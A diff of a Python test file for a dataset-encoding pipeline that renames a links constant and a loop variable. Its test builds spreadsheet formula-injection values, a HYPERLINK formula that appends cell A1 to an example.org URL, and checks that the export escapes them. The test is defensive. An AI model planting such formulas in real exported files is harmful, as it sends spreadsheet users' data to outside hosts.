@@ -46,7 +46,7 @@ from storage.records.sample import Sample
 from tests.command_line import trilight
 from tests.pipeline.documents.dataset_by_hand import (
     HARM,
-    NOWHERE,
+    NO_LINKS,
     RIGHTS,
     SETTINGS,
     Tags,
@@ -201,7 +201,7 @@ SIZE = 96
 
 
 def page_of(shown: Sample) -> str:
-    return encode_scene_page(shown, "train", (), NOWHERE).decode()
+    return encode_scene_page(shown, "train", (), NO_LINKS).decode()
 
 
 def figures(page: str) -> dict[str, tuple[NDArray[np.uint8], str]]:
@@ -390,8 +390,8 @@ def test_rows_are_sorted_complete_inert_and_come_back_as_they_were() -> None:
     fields = ["uid", "title", "licence", "licence_source", "attribution", "source_url"]
     for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
         formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
-        (read,) = cells(encode_attribution([row(**{field: formula})]))
-        assert read[field] == "'" + formula
+        (again,) = cells(encode_attribution([row(**{field: formula})]))
+        assert again[field] == "'" + formula
 
 
 class Listed:
